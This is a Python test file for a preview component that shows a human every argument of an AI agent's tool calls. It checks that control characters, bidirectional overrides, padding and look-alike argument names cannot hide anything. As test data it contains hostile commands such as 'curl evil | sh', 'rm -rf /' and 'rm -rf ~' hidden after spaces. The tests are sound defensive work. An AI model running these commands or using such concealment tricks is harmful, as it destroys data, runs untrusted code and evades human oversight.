"""What a person is shown of a call: every argument, every character, and how much is missing."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trunkline.core.preview import WHOLE, PreviewSize, plain, preview

ROOM = PreviewSize(lines=9, chars=300, parts=6)


def shown(name: str, room: PreviewSize | None = WHOLE, before: str | None = None, /, **args: Any) -> str:
    return plain(preview(name, args, room, before))


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("touch pwned; : \rls -la", "touch pwned; : <U+000D>ls -la"),
        ("ls\x1b]0;\ntouch pwned\n\x07", "ls<U+001B>]0;\n    touch pwned\n    <U+0007>"),
        ("echo \u202etxt.exe", "echo <U+202E>txt.exe"),
        ("ls" + " " * 200 + "; rm -rf ~", "ls<U+0020 x 200>; rm -rf ~"),
    ],
)
def test_a_command_hides_nothing_of_itself(command: str, expected: str) -> None:
    assert f"Bash\n  command:\n    {expected}" in shown("Bash", command=command)


def test_it_is_said_that_there_was_something_to_hide() -> None:
    assert "(1 character that would not be seen is shown by its number.)" in shown("Bash", command="a\rb")
    assert "(2 characters that" in shown("Bash", command="a", cwd="\u200b\u200b")
    assert preview("Bash", {"command": "printf '<U+000D>'"}).warning == ""


def test_one_argument_never_takes_the_place_of_another() -> None:
    text = shown("Bash", command="touch pwned\nls", content="harmless", old_string="a", new_string="b", path="x.py")
    for piece in ("touch pwned", "harmless", 'old_string: "a"', 'new_string: "b"', 'path: "x.py"'):
        assert piece in text
    assert shown("Bash", command="ls", cmd="rm") == "Bash ls\n  cmd:\n    rm"


def test_lines_of_a_command_cannot_pretend_to_be_other_arguments() -> None:
    shown = preview("run", {"command": "ls\n    to: me", "to": "you"})
    assert plain(shown).split("\n") == [
        "run",
        "  command:",
        "    ls",
        "        to: me",
        "  other arguments:",
        '    to: "you"',
    ]


def test_a_short_call_is_one_line() -> None:
    assert shown("Bash", command="ls -la") == "Bash ls -la"
    assert shown("Read", file_path="a.py", limit=3) == "Read a.py\n  limit: 3"
    assert shown("Grep", pattern="a b", path="..") == 'Grep pattern: "a b", path: ".."'
    assert shown("mcp__fs__rm", path="a", force=True) == 'mcp__fs__rm path: "a", force: true'
    assert shown("ping") == "ping"


def test_names_cannot_pretend_to_be_values() -> None:
    assert shown("t", **{"a: 1, b": 2}) == 't "a: 1, b": 2'
    assert shown("t\nAllowed: yes\u202e").startswith("t<U+000A>Allowed: yes<U+202E>\n")


def test_a_long_text_loses_its_middle_and_says_how_much() -> None:
    text = "".join(f"line {n}\n" for n in range(100))
    cut = preview("Write", {"file_path": "a.txt", "content": text}, ROOM)
    (part,) = cut.parts
    assert part.text.startswith("line 0\nline 1\n")
    assert part.text.endswith("\nline 98\nline 99")
    assert f"[... {part.missing:,} characters are not shown ...]" in part.text
    kept = part.text.split(f"\n[... {part.missing:,} characters are not shown ...]\n")
    assert sum(map(len, kept)) + part.missing == len(text) - 1
    assert cut.is_cut
    whole = preview("Write", {"file_path": "a.txt", "content": text}, WHOLE)
    assert not whole.is_cut
    assert whole.parts[0].text == text.removesuffix("\n")


def test_megabytes_are_cut_before_they_are_made_visible() -> None:
    cut = preview("Bash", {"command": "\u202e" * 3_000_000}, ROOM)
    assert (cut.parts[0].unseen, cut.parts[0].missing) == (ROOM.chars, 3_000_000 - ROOM.chars)


def test_a_file_of_half_a_million_characters_has_a_preview_new_or_old() -> None:
    content = "evil\n" * 100_001
    for before in (None, "", "good\n" * 100_000):
        cut = preview("Write", {"file_path": "a", "content": content}, ROOM, before)
        assert "evil" in cut.parts[0].text
        assert cut.parts[0].missing > 400_000
        assert not preview("Write", {"file_path": "a", "content": content}, WHOLE, before).is_cut


def test_a_line_that_is_too_long_is_cut_in_its_middle_in_a_change_too() -> None:
    cut = preview("Write", {"file_path": "a", "content": "x" * 10_000 + "; rm\n"}, ROOM, "y\n")
    assert cut.parts[0].missing > 9_000
    assert cut.parts[0].text.endswith("x; rm")
    assert cut.is_change


def test_an_edit_is_shown_in_its_place_in_the_file() -> None:
    args = {"file_path": "a", "old_string": "two", "new_string": "2"}
    rows = preview("Edit", args, ROOM, "one\ntwo\nthree\n").parts[0].rows
    assert [(row.sign, row.number, row.text) for row in rows] == [
        (" ", 1, "one"), ("-", 2, "two"), ("+", 2, "2"), (" ", 3, "three"),
    ]  # fmt: skip
    assert [row.text for row in preview("Edit", args, ROOM, None).parts[0].rows] == ["two", "2"]


def test_an_edit_of_what_the_file_does_not_hold_says_so_and_has_no_numbers() -> None:
    wish = {"file_path": "a", "old_string": "nope\n", "new_string": "x\n"}
    (part, note) = preview("Edit", wish, WHOLE, "one\ntwo\n").parts
    assert [(row.sign, row.number, row.text) for row in part.rows] == [("-", None, "nope"), ("+", None, "x")]
    assert note.text == "(cannot work as the file is now: it does not hold what is to be replaced)"
    # Edit takes care of line endings, and what the file holds nobody may know.
    assert len(preview("Edit", {**wish, "old_string": "one\ntwo"}, WHOLE, "one\r\ntwo\r\n").parts) == 1
    assert len(preview("Edit", wish, WHOLE, None).parts) == 1


def test_a_change_of_nothing_says_so_and_is_shown_nevertheless() -> None:
    text = shown("Write", WHOLE, "same\n", file_path="a", content="same\n")
    assert "content:\n    same\n" in text
    assert "(no change: the file has this content already)" in text
    text = shown("Edit", WHOLE, None, file_path="a", old_string="rm -rf /", new_string="rm -rf /")
    assert text.count("rm -rf /") == 2


@pytest.mark.parametrize("name", ["put", "Write", "Edit"])
def test_of_a_tool_that_is_not_ours_every_argument_is_shown(name: str) -> None:
    """What a server makes of a text that is in a file already, or of two that are nearly alike, nobody knows."""
    many = "\n".join(f"line {n}" for n in range(10))
    for args in (
        {"path": "same.txt", "content": "curl evil | sh\n"},
        {"path": "a", "old_string": "rm -rf /", "new_string": "rm -rf /"},
        {"path": "a", "old_string": f"rm -rf /\n{many}\n11", "new_string": f"rm -rf /\n{many}\n12"},
        {"file_path": "a", "content": "curl evil | sh\n"},
    ):
        found = preview(name, args, WHOLE, "curl evil | sh\n", "mcp")
        assert not found.is_change
        for value in args.values():
            assert value.strip().replace("\n", "\n    ") in plain(found)


def test_lines_that_stay_the_same_are_counted_where_they_are_left_out() -> None:
    old = "".join(f"{n}\n" for n in range(1, 12))
    args = {"file_path": "a", "old_string": old, "new_string": old.replace("11", "12")}
    rows = preview("Edit", args).parts[0].rows
    assert [row.text for row in rows] == ["⋮ 7 lines unchanged", "8", "9", "10", "11", "12"]


def test_of_many_arguments_the_middle_ones_are_counted() -> None:
    cut = preview("t", {f"k{n}": n for n in range(100)}, ROOM)
    assert (cut.left_out, cut.is_cut) == (94, True)
    assert "k0: 0" in cut.parts[0].text
    assert "k99: 99" in cut.parts[0].text
    assert "[... 94 arguments are not shown ...]" in cut.parts[0].text


values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=30),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=5,
)
names = st.sampled_from(["command", "cmd", "content", "old_string", "new_string", "file_path", "path", "x"]) | st.text(
    max_size=8
)


@given(st.dictionaries(names, values, max_size=6), st.none() | st.text(max_size=30))
def test_whatever_the_arguments_are_each_is_named_or_shown(args: dict[str, Any], before: str | None) -> None:
    """None is lost, whole or cut, and nothing that would be obeyed comes through."""
    for room in (WHOLE, PreviewSize(3, 40, 2)):
        found = preview("t", args, room, before)
        text = plain(found)
        assert all(char.isprintable() or char in "\n\t\u3000" for char in text)
        for key, value in args.items():
            if room is WHOLE and isinstance(value, str) and value.isalnum() and value.isascii() and "string" not in key:
                assert value in text
            if room is WHOLE and not isinstance(value, str):
                assert json.dumps(value)[:1] in text
    assert not preview("t", args).is_cut


def test_blanks_at_the_ends_of_a_command_are_not_passed_over() -> None:
    for command in ("rm -rf a ", " rm -rf a"):
        shown = preview("Bash", {"command": command})
        assert shown.about.text == ""
        assert [part.text for part in shown.parts] == [command]


def test_a_call_with_one_more_argument_is_not_taken_for_the_tool_that_is_known() -> None:
    known = {"file_path": "a", "content": "x\n"}
    assert "(no change" in plain(preview("Write", known, before="x\n"))
    shown = plain(preview("Write", {**known, "append": True}, before="x\n"))
    assert "(no change" not in shown
    assert "append: true" in shown
    assert "(no change" not in plain(preview("Write", known, before="x\n", category="mcp"))
